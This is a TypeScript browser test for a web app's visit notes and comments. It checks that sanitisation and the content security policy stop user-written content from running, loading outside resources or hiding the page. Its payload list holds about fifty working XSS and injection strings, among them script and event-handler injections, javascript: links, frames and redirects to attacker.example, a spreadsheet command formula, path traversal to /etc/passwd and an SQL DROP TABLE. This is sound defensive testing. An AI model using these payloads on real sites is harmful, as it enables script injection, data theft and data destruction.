import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import * as z from 'zod'
import { allowedInComments } from '../../src/dialogue/contract/sanitise-comment.ts'
import { become, browserApp } from './open.ts'

// What strangers write, as comment, name, link, tag and note, looked at in a real browser with the content security policy and without it.
const { origin, make, browser } = await browserApp()
const unitId = await make.unit({ name: 'Kansliet' })
const author = await make.staff({ unitId, roles: ['coordinator'] })
const reviewer = await make.staff({ unitId, roles: ['coordinator'] })

/** Every way in that is known to us, one or two of each kind; what they call is heard by the page. */
const attacks: readonly string[] = [
  '<script>heard.push(1)</script>', '<img src=x onerror=heard.push(2)>', '<svg onload=heard.push(3)>', '<svg><script>heard.push(4)</script></svg>',
  '<a href="javascript:heard.push(5)">x</a>', '<a href="JaVaScRiPt&colon;heard.push(6)">x</a>', '<a href="\u0001javascript:heard.push(7)">x</a>',
  '<a href="data:text/html,<script>heard.push(8)</script>">x</a>', '<b onmouseover=heard.push(9)>x</b>', '<b style="position:fixed;inset:0">x</b>',
  '"><script>heard.push(10)</script>', '\'"><img src=//attacker.example/a onerror=heard.push(11)>', '</textarea><script>heard.push(12)</script>',
  '</title><script>heard.push(13)</script>', '<!--><img src=x onerror=heard.push(14)>-->', '<![CDATA[<script>heard.push(15)</script>]]>',
  '<iframe src="//attacker.example"></iframe>', '<iframe srcdoc="<script>parent.heard.push(16)</script>"></iframe>', '<object data="//attacker.example"></object>',
  '<embed src="//attacker.example">', '<link rel=stylesheet href="//attacker.example/a.css">', '<style>@import "//attacker.example/b.css"; main { display: none }</style>',
  '<meta http-equiv=refresh content="0;url=//attacker.example">', '<base href="//attacker.example/">', '<form action="//attacker.example"><input name=x autofocus onfocus=heard.push(17)></form>',
  '<button form=x formaction="javascript:heard.push(18)">x</button>', '<video src="//attacker.example/v" onerror=heard.push(19)></video>', '<details open ontoggle=heard.push(20)>x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=heard.push(21)>', '<noscript><p title="</noscript><img src=x onerror=heard.push(22)>">', '<template><script>heard.push(23)</script></template>',
  '<svg><use href="//attacker.example/a.svg#x"/></svg>', '<blockquote cite="javascript:heard.push(24)">x</blockquote>', '<del datetime="&quot; onclick=heard.push(25) x=&quot;">x</del>',
  '<q cite="https://x.example/&quot;onmouseover=&quot;heard.push(26)">x</q>', '<a href="https://user:pass@attacker.example">x</a>', '{{constructor.constructor("heard.push(27)")()}}', '${heard.push(28)}',
  '<%= heard.push(29) %>', '&lt;script&gt;heard.push(30)&lt;/script&gt;', '\u202eevil\u202c \u200b\ufeff', 'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334A', '=cmd|\' /C calc\'!A0',
  'ÅÄÖ åäö 田中さん 👩‍👩‍👧 َُِ', '../../etc/passwd%00', '\'; DROP TABLE visit_note; --', '[a](javascript:heard.push(31))', 'a'.repeat(400),
]
const survives = [
  '<a href="https://example.org/x" title="t">1</a><abbr title="t">2</abbr><acronym title="t">3</acronym><b>4</b><blockquote cite="https://example.org">5</blockquote>',
  '<cite>6</cite><code>7</code><del datetime="2026-11-24">8</del><em>9</em><i>10</i><q cite="https://example.org/q">11</q><strike>12</strike><strong>13</strong>',
].join('')

async function send(path: string, body: object, as: { cookie: string } | null, method = 'POST'): Promise<{ status: number; answer: Record<string, unknown> }> {
  const headers = { 'content-type': 'application/json', origin, ...(as === null ? {} : { cookie: as.cookie }) }
  const answered = await fetch(`${origin}${path}`, { method, headers, ...(method === 'GET' ? {} : { body: JSON.stringify(body) }) })
  return { status: answered.status, answer: z.record(z.string(), z.unknown()).parse(await answered.json()) }
}
async function accepted(path: string, body: object, as: { cookie: string } | null): Promise<string> {
  const { status, answer } = await send(path, body, as)
  expect([path, status, answer]).toEqual([path, 200, answer])
  return String(answer['id'])
}

/** A note that is made of attacks, published, with each of them as a comment and in an element and its attributes. */
async function publish(written: readonly string[]): Promise<{ id: string; address: string }> {
  const [first = ''] = written
  const id = await accepted('/api/visit-notes', { title: first.slice(0, 110), place: first.slice(0, 70), visitedOn: '2026-11-20', body: written.join('\n\n## '),
    tags: written.slice(0, 8).map((each) => each.slice(0, 40)) }, author)
  await accepted(`/api/visit-notes/${id}/review-request`, {}, author)
  await accepted(`/api/visit-notes/${id}/review`, { outcome: 'publish' }, reviewer)
  const address = String((await send(`/api/visit-notes/${id}`, {}, author, 'GET')).answer['address'])
  for (const each of written) {
    const inAttributes = each.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
    for (const body of [each, `<b>${each}</b><a href="${each}" title='${each}'>x</a><a href="${inAttributes}" title="${inAttributes}">y</a>`]) {
      const { status, answer } = await send(`/api/published-notes/${address}/comments`, { name: each.slice(0, 80), email: 'las@example.test', body }, null)
      // What nothing can be read of is told so; everything else waits to be read.
      if (status !== 200) expect([status, answer['code']]).toEqual([422, 'comment_is_wrong'])
    }
  }
  return { id, address }
}

async function letThrough(): Promise<string[]> {
  const { answer } = await send('/api/comments?limit=200', {}, reviewer, 'GET')
  const comments = z.array(z.looseObject({ id: z.string() })).parse(answer['comments'])
  for (const { id } of comments) await accepted(`/api/comments/${id}/decision`, { outcome: 'show', mask: ['täcks'] }, reviewer)
  return comments.map(({ id }) => id)
}

const foundShape = z.object({ strangers: z.array(z.string()), heard: z.array(z.unknown()) })
/** What is on a page that only an attack can have put there. Every element of the readers is pointed at, clicked and focused. */
async function strangersOn(page: Page): Promise<string[]> {
  const found = foundShape.parse(await page.evaluate(`(() => {
    const allowed = ${JSON.stringify({ ...allowedInComments, a: [...allowedInComments.a, 'rel'] })}
    const strangers = []
    for (const element of document.querySelectorAll('main *')) {
      const name = element.localName
      const own = element.closest('.icon, .shield, .print-header')
      if (!own && ['script', 'style', 'iframe', 'object', 'embed', 'img', 'link', 'meta', 'base', 'video', 'audio', 'svg', 'math', 'template', 'details'].includes(name)) strangers.push('element ' + name)
      for (const attribute of element.attributes) if (/^on|^style$|^srcdoc$|^formaction$/.test(attribute.name)) strangers.push(name + ' with ' + attribute.name)
      if (name === 'form' && new URL(element.action).origin !== location.origin) strangers.push('form to ' + element.action)
      if (name === 'a' && element.hasAttribute('href') && !['http:', 'https:'].includes(element.protocol)) strangers.push('link to ' + element.protocol)
    }
    for (const element of document.querySelectorAll('.reader-text *')) {
      if (!Object.hasOwn(allowed, element.localName)) strangers.push('comment with ' + element.localName)
      for (const { name } of element.attributes) if (!(allowed[element.localName] ?? []).includes(name)) strangers.push('comment with attribute ' + name)
      if (element.localName === 'a') {
        if (element.hasAttribute('href') && !element.relList.contains('ugc')) strangers.push('link that is not marked')
        element.addEventListener('click', (event) => event.preventDefault())
      }
      for (const kind of ['mouseover', 'focus', 'click', 'error', 'load', 'toggle']) element.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }))
    }
    if (document.querySelector('main')?.checkVisibility() !== true) strangers.push('the page is hidden')
    if (document.documentElement.scrollWidth > document.documentElement.clientWidth) strangers.push('the page is wider than the window')
    return { strangers, heard: window.heard }
  })()`))
  return [...found.strangers, ...found.heard.map((each) => `called: ${String(each)}`)]
}

test('nothing that strangers write runs, asks, hides or leads anywhere, with the policy and without it; what is allowed is left', async () => {
  const notes: { id: string; address: string }[] = []
  for (let at = 0; at < attacks.length; at += 12) notes.push(await publish(attacks.slice(at, at + 12)))
  const { address } = notes[0] ?? { address: '' }
  await accepted(`/api/published-notes/${address}/comments`, { name: 'Tillåtet', email: 'las@example.test', body: survives, link: 'https://example.org/' }, null)
  const comments = await letThrough()
  expect(comments.length).toBeGreaterThan(attacks.length)
  const forAll = ['/besok', ...notes.map((note) => `/besok/${note.address}`)]
  const forStaff = ['/anteckningar-besok', ...notes.flatMap(({ id }) => [`/anteckningar-besok/${id}`, `/anteckningar-besok/${id}/ratta`]), '/kommentarer?visa=visade',
    ...comments.filter((_, index) => index % 12 === 0).map((id) => `/kommentarer/${id}`)]
  for (const bypassCSP of [true, false]) {
    const context = await browser.newContext({ baseURL: origin, bypassCSP, viewport: { width: 360, height: 740 }, locale: 'sv-SE', reducedMotion: 'reduce' })
    const page = await context.newPage()
    const complaints: string[] = []
    page.on('dialog', (dialog) => { complaints.push('a dialog'); void dialog.dismiss() })
    page.on('popup', () => { complaints.push('a window was opened') })
    page.on('request', (request) => { if (!request.url().startsWith(origin)) complaints.push(`a request: ${request.url().slice(0, 80)}`) })
    await page.addInitScript("window.heard = []; for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => window.heard.push(name)")
    for (const path of [...forAll, ...forStaff]) {
      if (path === forStaff[0]) {
        expect(await context.cookies()).toEqual([])
        await become(context, origin, author)
      }
      const answered = await page.goto(path)
      expect([path, answered?.status()]).toEqual([path, 200])
      expect([path, bypassCSP, await strangersOn(page)]).toEqual([path, bypassCSP, []])
    }
    await page.goto(`/besok/${address}`)
    for (const [name, attributes] of Object.entries(allowedInComments)) {
      const selector = `.reader-text ${name}${attributes.map((each) => `[${each}]`).join('')}`
      expect([selector, await page.locator(selector).count() > 0]).toEqual([selector, true])
    }
    expect(complaints).toEqual([])
    await context.close()
  }
}, 120_000)
